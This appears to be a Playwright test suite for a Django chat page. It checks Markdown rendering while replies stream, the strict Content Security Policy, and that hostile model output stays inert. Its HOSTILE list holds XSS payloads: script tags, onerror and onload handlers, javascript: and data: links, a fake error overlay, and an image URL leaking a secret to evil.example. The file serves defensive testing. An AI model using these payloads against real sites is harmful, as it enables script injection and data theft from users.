"""Replies as Markdown on the web page: rendered while streaming, and safe against hostile model output.

Chromium through Playwright against a live Daphne and the local model server.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from chat.web.csp import HEADER
from testkit.fake_llm import Script
from tests.conftest import ARTIFACTS

VENDOR = Path(__file__).resolve().parents[2] / "chat" / "static" / "chat" / "vendor"

RICH = """## Droid report

Here is a **list**:

- first item
- second with `inline_code()`
- [x] done task
- [ ] open task

| droid | height |
| --- | ---: |
| R2-D2 | 1.09 m |
| C-3PO | 1.71 m |

~~old~~ new, and a [link](https://example.com/docs).

```python
def beep(n: int) -> str:
    return "beep " * n
```

That is all."""

CODE = 'def beep(n: int) -> str:\n    return "beep " * n\n'

# Each one tries to run script, attach a handler, navigate, or reach outside the reply's box.
HOSTILE = [
    '<img src=x onerror="window.__pwned=1;alert(1)"> image with a handler',
    "<script>window.__pwned=2;alert(2)</script> a script",
    "[click me](javascript:window.__pwned=3) and [again](  JaVaScRiPt:alert(3))"
    " and <a href='javascript:alert(3)'>raw</a>",
    '<a href="data:text/html,<script>alert(4)</script>">data link</a>'
    " and [md data](data:text/html;base64,PHNjcmlwdD4=)",
    '<div style="position:fixed;inset:0;background:red" onclick="alert(5)" class="msg-error" aria-live="assertive">'
    'overlay</div>\n\n<iframe src="javascript:alert(6)"></iframe><svg onload=alert(7)></svg>'
    '<form action="https://evil.example/"><button formaction="javascript:alert(8)">Go</button></form>'
    "<style>body{display:none}</style><object data=x></object>",
    '![pixel](https://evil.example/p.png?leak=secret) and <img src="data:image/png;base64,AAAA"> images',
]
# A fence that never closes, streamed slowly: its inside is shown as code, never as HTML.
UNTERMINATED = "Look:\n\n```html\n<script>window.__pwned=9;alert(9)</script>\n<img src=x onerror=alert(10)>\nstill code"

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.django_db(transaction=True)]


# Without a browser -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_page_has_a_strict_policy_and_no_inline_script(client):
    """The CSP forbids inline script and other origins; the page's config is JSON data, not script."""
    response = client.get("/")
    policy = response[HEADER]
    assert "default-src 'none'" in policy and "script-src 'self'" in policy and "style-src 'self'" in policy
    assert "img-src 'self';" in policy and "unsafe-inline" not in policy and "unsafe-eval" not in policy
    html = response.content.decode()
    for tag in re.findall(r"<script\b[^>]*>", html):
        assert " src=" in tag or 'type="application/json"' in tag, tag
    assert '<link rel="icon" href="/static/chat/favicon.svg" type="image/svg+xml">' in html
    assert '"remoteImages": false' in html
    # The admin is not the chat page: it keeps Django's own inline scripts working.
    assert HEADER not in client.get("/admin/login/")


@pytest.mark.django_db
def test_remote_images_setting_opens_img_src(client, settings):
    settings.R2D2_PAGE_REMOTE_IMAGES = True
    response = client.get("/")
    assert "img-src 'self' https:;" in response[HEADER]
    assert '"remoteImages": true' in response.content.decode()


@pytest.mark.django_db
def test_favicon_is_served(client):
    response = client.get("/favicon.ico")
    assert response.status_code == 200 and response["Content-Type"] == "image/svg+xml"
    assert b"<svg" in b"".join(response.streaming_content)


def test_vendored_libraries_are_pinned_with_their_licences():
    """What the page loads is what update.sh fetches, at the versions it pins, with each licence."""
    script = (VENDOR / "update.sh").read_text()
    pins = dict(re.findall(r"^(MARKED|DOMPURIFY|HIGHLIGHTJS)=(\S+)", script, re.M))
    versions = (VENDOR / "VERSIONS").read_text()
    assert f"marked {pins['MARKED']}" in versions and f"dompurify {pins['DOMPURIFY']}" in versions
    assert f"@highlightjs/cdn-assets {pins['HIGHLIGHTJS']}" in versions
    assert f"marked v{pins['MARKED']}" in (VENDOR / "marked.umd.js").read_text()[:200]
    assert f"DOMPurify {pins['DOMPURIFY']}" in (VENDOR / "purify.min.js").read_text()[:200]
    assert f"v{pins['HIGHLIGHTJS']}" in (VENDOR / "highlight.min.js").read_text()[:200]
    for name in ("marked", "dompurify", "highlightjs"):
        assert (VENDOR / f"LICENSE.{name}").stat().st_size > 500


# In Chromium ---------------------------------------------------------------------------------------


def watch(page: Page, origin: str) -> dict[str, list]:
    """Record what must never happen: dialogs, CSP violations, requests to other origins, new windows."""
    seen: dict[str, list] = {"dialogs": [], "csp": [], "foreign": [], "popups": []}

    def on_dialog(dialog) -> None:
        seen["dialogs"].append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    page.on("console", lambda m: "Content Security Policy" in m.text and seen["csp"].append(m.text))
    page.on("request", lambda r: r.url.startswith((origin, "data:")) or seen["foreign"].append(r.url))
    page.on("popup", lambda p: seen["popups"].append(p.url))
    # Playwright's own scripts are exempt from the page's CSP, so this listener can be installed.
    page.add_init_script(
        "window.__violations = [];"
        "document.addEventListener('securitypolicyviolation',"
        " (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    return seen


def start_session(page: Page, url: str) -> None:
    page.goto(url + "/")
    expect(page.locator("#connection")).to_have_text("Connected")
    page.click("#start")
    expect(page.locator("#session-bar")).to_be_visible()


def ask(page: Page, text: str) -> None:
    page.fill("#input", text)
    page.keyboard.press("Enter")


def test_reply_renders_as_markdown_while_streaming(browser_page, daphne, fake_llm):
    """Heading, list, task list, table, strikethrough, link and highlighted code with a working Copy button."""
    page = browser_page
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=daphne.http_url)
    seen = watch(page, daphne.http_url)
    response = page.goto(daphne.http_url + "/")
    assert "script-src 'self'" in response.headers[HEADER.lower()]
    start_session(page, daphne.http_url)

    fake_llm.enqueue(Script(text=RICH, token_delay=0.04))
    ask(page, "Report, please")
    reply = page.locator(".msg-assistant .text").last
    # Midway the heading is already rendered; mark its node to see that later frames keep it.
    heading = reply.locator("h2")
    expect(heading).to_have_text("Droid report")
    assert page.locator("#stop").is_visible(), "the heading should render before the reply ends"
    heading.evaluate("(el) => { window.__heading = el; }")
    expect(page.locator("#send")).to_be_enabled()
    assert heading.evaluate("(el) => el === window.__heading")  # the same node throughout: no flicker

    expect(reply.locator("strong")).to_have_text("list")
    expect(reply.locator("ul > li")).to_have_count(4)
    expect(reply.locator("code").first).to_have_text("inline_code()")
    expect(reply.locator("input[type=checkbox]")).to_have_count(2)
    expect(reply.locator("input[type=checkbox]:checked")).to_have_count(1)
    expect(reply.locator("table th")).to_have_text(["droid", "height"])
    expect(reply.locator("table td")).to_have_text(["R2-D2", "1.09 m", "C-3PO", "1.71 m"])
    expect(reply.locator("del")).to_have_text("old")
    link = reply.locator("a")
    expect(link).to_have_attribute("href", "https://example.com/docs")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    code = reply.locator(".code-block pre code")
    expect(code).to_have_class(re.compile(r"\bhljs\b"))
    expect(code).to_have_class(re.compile(r"\blanguage-python\b"))
    assert code.locator("span.hljs-keyword").count() >= 2  # def, return: highlighted
    assert code.text_content() == CODE
    expect(reply.locator(".code-head span")).to_have_text("python")

    copy = reply.locator("button.copy-code")
    copy.click()
    expect(copy).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == CODE

    # The person's own message is plain text, Markdown and all.
    ask(page, "**not bold** <b>nor this</b>")
    mine = page.locator(".msg-user .text").last
    expect(mine).to_have_text("**not bold** <b>nor this</b>")
    assert mine.locator("*").count() == 0
    # The reply is Markdown, and raw HTML in it is shown as text.
    expect(page.locator(".msg-assistant .text").last).to_have_text("Echo: not bold <b>nor this</b>")
    expect(page.locator(".msg-assistant .text strong").last).to_have_text("not bold")

    # Shift+Enter adds a line; Enter sends; Esc stops a reply.
    page.fill("#input", "line one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("line two")
    expect(page.locator("#input")).to_have_value("line one\nline two")
    expect(page.locator(".msg-user")).to_have_count(2)
    fake_llm.enqueue(Script(text=" ".join(f"word{n}" for n in range(80)), token_delay=0.1))
    page.keyboard.press("Enter")
    expect(page.locator(".msg-user .text").last).to_have_text("line one\nline two")
    expect(page.locator(".msg-assistant .text").last).to_contain_text("word2")
    page.keyboard.press("Escape")
    expect(page.locator(".msg-assistant").last).to_have_class("msg msg-assistant stopped")
    expect(page.locator("#stop")).to_be_hidden()
    expect(page.locator("#log")).not_to_have_attribute("aria-busy", "true")
    expect(page.locator("#log")).to_have_attribute("aria-live", "polite")

    assert seen == {"dialogs": [], "csp": [], "foreign": [], "popups": []}
    assert page.evaluate("window.__violations") == []
    screenshots(page, "markdown")


def screenshots(page: Page, name: str) -> None:
    """Desktop and phone widths, light and dark, for people to look at."""
    ARTIFACTS.mkdir(exist_ok=True)
    page.evaluate("window.scrollTo(0, 0)")
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        for width, height in ((1280, 900), (390, 844)):
            page.set_viewport_size({"width": width, "height": height})
            # Nothing may stick out sideways, even on a phone: wide tables and code scroll inside their box.
            assert page.evaluate("document.documentElement.scrollWidth") <= width
            page.screenshot(path=str(ARTIFACTS / f"{name}-{width}-{scheme}.png"), full_page=True)
    page.emulate_media(color_scheme="light")


def test_hostile_replies_stay_inert(browser_page, daphne, fake_llm):
    """Script, handlers, javascript:/data: links, overlays, remote images: none survive, nothing runs or loads."""
    page = browser_page
    seen = watch(page, daphne.http_url)
    start_session(page, daphne.http_url)
    for n, text in enumerate(HOSTILE, start=1):
        fake_llm.enqueue(Script(text=text, token_delay=0.01))
        ask(page, f"hostile {n}")
        expect(page.locator(".msg-assistant")).to_have_count(n)
        expect(page.locator("#send")).to_be_enabled()

    # The unterminated fence, watched while it streams and after.
    fake_llm.enqueue(Script(text=UNTERMINATED, token_delay=0.15))
    ask(page, "an open fence")
    last = page.locator(".msg-assistant .text").last
    expect(last.locator("pre code")).to_contain_text("<script>")
    assert page.locator("#stop").is_visible(), "checked mid-stream"
    expect(page.locator("#send")).to_be_enabled()
    expect(last.locator("pre code")).to_contain_text("<img src=x onerror=alert(10)>")

    log = page.locator("#log")
    # Raw HTML is shown as the text the model wrote.
    expect(log.locator(".msg-assistant .text").first).to_have_text(
        '<img src=x onerror="window.__pwned=1;alert(1)"> image with a handler'
    )
    expect(log.locator(".msg-assistant .text").nth(1)).to_have_text(
        "<script>window.__pwned=2;alert(2)</script> a script"
    )
    dangerous = "script, iframe, object, embed, svg, form, button:not(.copy-code), style, img, [style], [aria-live]"
    # Inside the replies' rendered text (the page's own controls, ↻ and ‹ ›, sit beside each message).
    assert log.locator(", ".join(f".msg-assistant .text {tag}" for tag in dangerous.split(", "))).count() == 0
    assert log.locator(".msg-assistant .msg-error").count() == 0  # no dressing up as the page's own error box
    handlers = page.evaluate(
        "Array.from(document.querySelectorAll('#log *')).flatMap("
        "  (el) => Array.from(el.attributes).map((a) => a.name).filter((n) => n.startsWith('on')))"
    )
    assert handlers == []
    hrefs = page.evaluate("Array.from(document.querySelectorAll('#log a[href]')).map((a) => a.getAttribute('href'))")
    assert hrefs == ["https://evil.example/p.png?leak=secret"], hrefs  # the blocked image, as a link to it
    expect(log.locator("a[href]")).to_have_text("[image: pixel]")
    # The links that lost their javascript:/data: URL keep their text and go nowhere when clicked.
    dead = log.locator(".msg-assistant a:not([href])")
    expect(dead).to_have_text(["click me", "again", "md data"])
    for index in range(dead.count()):
        dead.nth(index).click()
    page.wait_for_timeout(300)
    assert page.url == daphne.http_url + "/"

    assert page.evaluate("window.__pwned") is None
    assert seen == {"dialogs": [], "csp": [], "foreign": [], "popups": []}
    assert page.evaluate("window.__violations") == []
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "markdown-hostile.png"), full_page=True)


WIDE_TABLE = """| droid | maker | series | role | height | first seen |
| --- | --- | --- | --- | --- | --- |
| Astromech | Industrial Automaton | Astromech R2 | starfighter navigation and repair | 1.09 metres | Tatooine |
| Protocol | Cybot Galactica | Protocol 3PO | etiquette, customs and translation | 1.71 metres | Tatooine |"""

#: Each word of a cell whose text is laid out on more than one line (broken mid-word).
BROKEN_WORDS = """(table) => {
  const broken = [];
  for (const cell of table.querySelectorAll("th, td")) {
    const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      for (const word of node.data.matchAll(/\\S+/g)) {
        const range = document.createRange();
        range.setStart(node, word.index);
        range.setEnd(node, word.index + word[0].length);
        const lines = new Set([...range.getClientRects()].map((rect) => Math.round(rect.top)));
        if (lines.size > 1) broken.push(word[0]);
      }
    }
  }
  return broken;
}"""


def test_a_wide_table_on_a_phone_scrolls_in_its_box_and_breaks_no_word(browser_page, daphne, fake_llm):
    """On a phone a reply's table broke its words ("Droi/d") to fit the bubble: the bubble's
    `overflow-wrap: anywhere` reached the cells. Words stay whole; the table scrolls sideways in its own box."""
    page = browser_page
    page.set_viewport_size({"width": 390, "height": 844})
    start_session(page, daphne.http_url)
    fake_llm.enqueue(Script(text=WIDE_TABLE, token_delay=0.005))
    ask(page, "Compare the droids")
    expect(page.locator("#send")).to_be_enabled()
    table = page.locator(".msg-assistant .text table").last
    expect(table.locator("td")).to_have_count(12)
    assert table.evaluate(BROKEN_WORDS) == []
    assert table.evaluate("(t) => t.scrollWidth > t.clientWidth"), "the table should scroll in its own box"
    assert page.evaluate("document.documentElement.scrollWidth") <= 390, "the page itself scrolls sideways"
